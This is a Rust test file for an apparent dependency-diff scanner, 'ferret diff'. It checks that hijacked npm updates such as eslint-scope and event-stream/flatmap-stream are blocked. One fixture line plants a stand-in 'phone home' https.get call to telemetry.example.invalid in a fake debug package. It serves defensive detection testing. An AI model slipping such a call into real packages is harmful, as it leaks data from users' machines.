//! `ferret diff`: two package directories, and `--base REV` against a git repository built
//! in the test (two commits with two lockfile states: npm, yarn classic and pnpm; tarballs
//! served from a pre-filled cache, offline, so nothing touches the network).
#![expect(clippy::unwrap_used, reason = "tests unwrap on fixture files")]

use assert_cmd::Command;
use serde_json::Value;
use std::path::{Path, PathBuf};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/fixtures/diff")
}

fn ferret() -> Command {
    let mut cmd = Command::cargo_bin("ferret").unwrap();
    cmd.env("NO_COLOR", "1").env_remove("FERRET_CACHE_DIR");
    cmd
}

#[test]
fn package_diff_of_two_directories_blocks_the_hijacked_side() {
    let case = fixtures().join("eslint-scope-postinstall");
    let out = ferret()
        .arg("diff")
        .arg(case.join("old"))
        .arg(case.join("new"))
        .args(["--format", "json", "--offline"])
        .output()
        .unwrap();
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let rules: Vec<&str> = doc["report"]["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"install-script-added"), "{rules:?}");
    assert_eq!(doc["old"]["version"], "3.7.1");
    assert_eq!(doc["install_scripts"][0]["key"], "postinstall");

    let term = ferret()
        .arg("diff")
        .arg(case.join("old"))
        .arg(case.join("new"))
        .arg("--offline")
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&term.stdout);
    assert!(
        text.contains("eslint-scope 3.7.1 → 3.7.2  BLOCKED"),
        "{text}"
    );
    assert!(text.contains("new capability network"), "{text}");
    assert!(
        text.contains("+  https.get("),
        "the unified-diff excerpt: {text}"
    );

    // Same version twice: nothing new, but the verdict is still the version's own.
    let same = ferret()
        .arg("diff")
        .arg(case.join("old"))
        .arg(case.join("old"))
        .arg("--offline")
        .output()
        .unwrap();
    assert_eq!(
        same.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&same.stdout)
    );
}

fn git(dir: &Path, args: &[&str]) {
    let st = std::process::Command::new("git")
        .arg("-C")
        .arg(dir)
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "commit.gpgsign=false",
        ])
        .args(args)
        .output()
        .unwrap();
    assert!(
        st.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&st.stderr)
    );
}

/// Packs a fixture directory as `package/…` into a .tgz and stores it in the cache by its
/// integrity; returns the SRI.
fn cache_tarball(cache: &ferret_cache::Cache, dir: &Path, work: &Path, name: &str) -> String {
    let holder = work.join(format!("pack-{name}"));
    std::fs::create_dir_all(&holder).unwrap();
    let st = std::process::Command::new("cp")
        .arg("-r")
        .arg(dir)
        .arg(holder.join("package"))
        .status()
        .unwrap();
    assert!(st.success());
    let tgz = work.join(format!("{name}.tgz"));
    let st = std::process::Command::new("tar")
        .arg("-czf")
        .arg(&tgz)
        .arg("-C")
        .arg(&holder)
        .arg("package")
        .status()
        .unwrap();
    assert!(st.success());
    let bytes = std::fs::read(&tgz).unwrap();
    let sri = ferret_source::sri_sha512(&bytes);
    cache
        .put(ferret_cache::Table::Tarball, &sri, &bytes)
        .unwrap();
    sri
}

fn lockfile(deps: &[(&str, &str, &str)]) -> String {
    let mut packages = serde_json::Map::new();
    let mut root_deps = serde_json::Map::new();
    root_deps.insert("event-stream".into(), "^3.3.5".into());
    packages.insert(
        String::new(),
        serde_json::json!({"name": "app", "version": "1.0.0", "dependencies": root_deps}),
    );
    for (name, version, sri) in deps {
        let mut entry = serde_json::json!({
            "version": version,
            "resolved": format!("https://registry.example.invalid/{name}/-/{name}-{version}.tgz"),
            "integrity": sri,
        });
        if *name == "event-stream" && *version == "3.3.6" {
            entry["dependencies"] = serde_json::json!({ "flatmap-stream": "^0.1.0" });
        }
        packages.insert(format!("node_modules/{name}"), entry);
    }
    serde_json::to_string_pretty(&serde_json::json!({
        "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
        "packages": packages,
    }))
    .unwrap()
}

#[test]
fn project_diff_against_a_base_revision() {
    let work = tempfile::tempdir().unwrap();
    let cache_dir = work.path().join("cache");
    let (es_old, es_new, flatmap) = {
        let cache = ferret_cache::Cache::open(&cache_dir).unwrap();
        let case = fixtures().join("event-stream-new-dependency");
        let corpus = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../tests/corpus/malicious/01-event-stream-flatmap");
        (
            cache_tarball(&cache, &case.join("old"), work.path(), "es-old"),
            cache_tarball(&cache, &case.join("new"), work.path(), "es-new"),
            cache_tarball(&cache, &corpus, work.path(), "flatmap"),
        )
    };
    let repo = work.path().join("app");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::write(
        repo.join("package.json"),
        r#"{"name":"app","version":"1.0.0","dependencies":{"event-stream":"^3.3.5"}}"#,
    )
    .unwrap();
    std::fs::write(
        repo.join("package-lock.json"),
        lockfile(&[("event-stream", "3.3.5", &es_old)]),
    )
    .unwrap();
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "base"]);
    // The branch: event-stream updated, flatmap-stream pulled in.
    std::fs::write(
        repo.join("package-lock.json"),
        lockfile(&[
            ("event-stream", "3.3.6", &es_new),
            ("flatmap-stream", "0.1.1", &flatmap),
        ]),
    )
    .unwrap();

    let run = |format: &str| {
        ferret()
            .current_dir(&repo)
            .args([
                "diff",
                "--base",
                "HEAD",
                "--offline",
                "--format",
                format,
                "--cache-dir",
            ])
            .arg(&cache_dir)
            .output()
            .unwrap()
    };
    let out = run("json");
    assert_eq!(
        out.status.code(),
        Some(1),
        "{}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let changes = doc["changes"].as_array().unwrap();
    let es = changes
        .iter()
        .find(|c| c["name"] == "event-stream")
        .unwrap();
    assert_eq!(es["change"], "changed");
    assert_eq!(
        (es["old_version"].as_str(), es["new_version"].as_str()),
        (Some("3.3.5"), Some("3.3.6"))
    );
    let es_rules: Vec<&str> = es["diff"]["report"]["alerts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["rule"].as_str().unwrap())
        .collect();
    assert!(es_rules.contains(&"dependency-added"), "{es_rules:?}");
    let fm = changes
        .iter()
        .find(|c| c["name"] == "flatmap-stream")
        .unwrap();
    assert_eq!(fm["change"], "added");
    assert_eq!(
        fm["paths"][0],
        serde_json::json!(["app", "event-stream", "flatmap-stream@0.1.1"])
    );
    assert!(
        fm["report"]["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["action"] == "block")
    );
    // Blocked first.
    assert_eq!(changes[0]["name"], "flatmap-stream");

    let md = String::from_utf8(run("markdown").stdout).unwrap();
    assert!(
        md.starts_with("## ferret: dependency changes blocked"),
        "{md}"
    );
    assert!(
        md.contains("| **block** | `flatmap-stream` | added `0.1.1`"),
        "{md}"
    );
    assert!(
        md.contains("<details>") && md.contains("[[exceptions]]"),
        "{md}"
    );

    let sarif: Value = serde_json::from_slice(&run("sarif").stdout).unwrap();
    assert_eq!(sarif["version"], "2.1.0");

    // A revision that does not exist is an error, not a pass.
    let bad = ferret()
        .current_dir(&repo)
        .args(["diff", "--base", "no-such-rev", "--offline"])
        .output()
        .unwrap();
    assert_eq!(bad.status.code(), Some(2));
}

/// A locked package of the yarn/pnpm fixtures: name, version, dependencies.
type Locked = (
    &'static str,
    &'static str,
    &'static [(&'static str, &'static str)],
);

/// A stand-in for a locked registry package: `package.json` with the name, version and
/// dependencies and an `index.js`; `debug@4.3.7` (the update under review) also phones home.
fn stand_in(work: &Path, name: &str, version: &str, deps: &[(&str, &str)]) -> PathBuf {
    let dir = work.join(format!("pkg-{name}-{version}"));
    std::fs::create_dir_all(&dir).unwrap();
    let deps: serde_json::Map<String, Value> = deps
        .iter()
        .map(|(n, r)| ((*n).to_string(), Value::from(*r)))
        .collect();
    let manifest = serde_json::json!({
        "name": name, "version": version, "main": "index.js", "dependencies": deps,
    });
    std::fs::write(dir.join("package.json"), manifest.to_string()).unwrap();
    let mut code = format!("module.exports = function () {{ return {name:?}; }};\n");
    if (name, version) == ("debug", "4.3.7") {
        code.push_str(
            "require('https').get('https://telemetry.example.invalid/c?v=' + process.version);\n",
        );
    }
    std::fs::write(dir.join("index.js"), code).unwrap();
    dir
}

/// The project diff of a yarn or pnpm project whose two lockfile states were produced by the
/// real clients (`tests/fixtures/diff/project-{yarn,pnpm}/{base,head}`: yarn 1.22.22 and pnpm
/// 12.21.0, lockfile 9.0, against registry.npmjs.org). Base: `debug@4.3.1` (→ `ms@2.1.2`)
/// and `left-pad@1.3.0`; head: `debug@4.3.7` (→ `ms@2.1.3`) and `supports-color@7.2.0`
/// (→ `has-flag@4.0.0`).
/// Offline: each locked package is a stand-in tarball in the cache, and the lockfiles'
/// integrity values are rewritten to the stand-ins' (everything else is the clients' output).
fn project_diff_of_real_lockfiles(kind: &str, lockfile_name: &str) {
    let fixture = fixtures().join(format!("project-{kind}"));
    let work = tempfile::tempdir().unwrap();
    let cache_dir = work.path().join("cache");
    let cache = ferret_cache::Cache::open(&cache_dir).unwrap();
    let packages: [Locked; 7] = [
        ("debug", "4.3.1", &[("ms", "2.1.2")]),
        ("debug", "4.3.7", &[("ms", "^2.1.3")]),
        ("ms", "2.1.2", &[]),
        ("ms", "2.1.3", &[]),
        ("left-pad", "1.3.0", &[]),
        ("supports-color", "7.2.0", &[("has-flag", "^4.0.0")]),
        ("has-flag", "4.0.0", &[]),
    ];
    let mut sri = std::collections::BTreeMap::new();
    for (name, version, deps) in packages {
        let dir = stand_in(work.path(), name, version, deps);
        let label = format!("{name}-{version}");
        sri.insert(
            (name.to_string(), version.to_string()),
            cache_tarball(&cache, &dir, work.path(), &label),
        );
    }
    drop(cache);
    // The lockfile of one state with the stand-ins' integrity values.
    let rewritten = |state: &str| -> String {
        let dir = fixture.join(state);
        let mut text = std::fs::read_to_string(dir.join(lockfile_name)).unwrap();
        let plan = ferret_project::plan_from_lockfiles(&dir).unwrap();
        assert!(plan.items.len() >= 3, "{state}: {:?}", plan.items);
        for item in &plan.items {
            let real = item.integrity.as_deref().unwrap();
            let ours = &sri[&(item.name.clone(), item.version.clone())];
            assert!(text.contains(real));
            text = text.replace(real, ours);
        }
        text
    };
    let repo = work.path().join("app");
    std::fs::create_dir_all(&repo).unwrap();
    std::fs::copy(fixture.join("base/package.json"), repo.join("package.json")).unwrap();
    std::fs::write(repo.join(lockfile_name), rewritten("base")).unwrap();
    git(&repo, &["init", "-q"]);
    git(&repo, &["add", "."]);
    git(&repo, &["commit", "-q", "-m", "base"]);
    std::fs::copy(fixture.join("head/package.json"), repo.join("package.json")).unwrap();
    std::fs::write(repo.join(lockfile_name), rewritten("head")).unwrap();

    let run = |format: &str| {
        ferret()
            .current_dir(&repo)
            .args(["diff", "--base", "HEAD", "--offline", "--format", format])
            .arg("--cache-dir")
            .arg(&cache_dir)
            .output()
            .unwrap()
    };
    let out = run("json");
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert_eq!(doc["errors"], serde_json::json!([]), "{doc:#}");
    assert_eq!(doc["lockfiles"], serde_json::json!([lockfile_name]));
    let changes = doc["changes"].as_array().unwrap();
    let summary: Vec<(String, String, String, String)> = changes
        .iter()
        .map(|c| {
            let s = |k: &str| c[k].as_str().unwrap_or("-").to_string();
            (s("name"), s("change"), s("old_version"), s("new_version"))
        })
        .collect();
    let row = |n: &str, c: &str, o: &str, v: &str| {
        (n.to_string(), c.to_string(), o.to_string(), v.to_string())
    };
    let mut sorted = summary.clone();
    sorted.sort();
    assert_eq!(
        sorted,
        vec![
            row("debug", "changed", "4.3.1", "4.3.7"),
            row("has-flag", "added", "-", "4.0.0"),
            row("left-pad", "removed", "1.3.0", "-"),
            row("ms", "changed", "2.1.2", "2.1.3"),
            row("supports-color", "added", "-", "7.2.0"),
        ],
        "{doc:#}"
    );
    let change = |name: &str| changes.iter().find(|c| c["name"] == name).unwrap();
    let has_path = |name: &str, path: Value| {
        let c = change(name);
        assert!(
            c["paths"].as_array().unwrap().contains(&path),
            "{name}: {path} not in {:#}",
            c["paths"]
        );
    };
    // Direct and transitive, each with the chain that pulls it in.
    has_path("debug", serde_json::json!(["app", "debug@4.3.7"]));
    has_path("ms", serde_json::json!(["app", "debug", "ms@2.1.3"]));
    has_path(
        "supports-color",
        serde_json::json!(["app", "supports-color@7.2.0"]),
    );
    has_path(
        "has-flag",
        serde_json::json!(["app", "supports-color", "has-flag@4.0.0"]),
    );
    assert_eq!(change("debug")["direct"], true);
    assert_eq!(change("ms")["direct"], false);
    assert_eq!(change("has-flag")["direct"], false);
    // The update is diffed (the new network use is a change finding at its line), the
    // additions are scanned.
    let debug_alerts = change("debug")["diff"]["report"]["alerts"]
        .as_array()
        .unwrap();
    let added = debug_alerts
        .iter()
        .find(|a| a["rule"] == "capability-added")
        .unwrap_or_else(|| panic!("{debug_alerts:#?}"));
    assert_eq!(added["location"]["path"], "index.js");
    assert_eq!(added["location"]["line"], 2);
    assert!(change("ms")["diff"]["report"].is_object());
    assert_eq!(change("has-flag")["report"]["package"]["version"], "4.0.0");

    let md = String::from_utf8(run("markdown").stdout).unwrap();
    assert!(md.contains("`debug`") && md.contains("`left-pad`"), "{md}");
}

#[test]
fn project_diff_of_a_yarn_project() {
    project_diff_of_real_lockfiles("yarn", "yarn.lock");
}

#[test]
fn project_diff_of_a_pnpm_project() {
    project_diff_of_real_lockfiles("pnpm", "pnpm-lock.yaml");
}
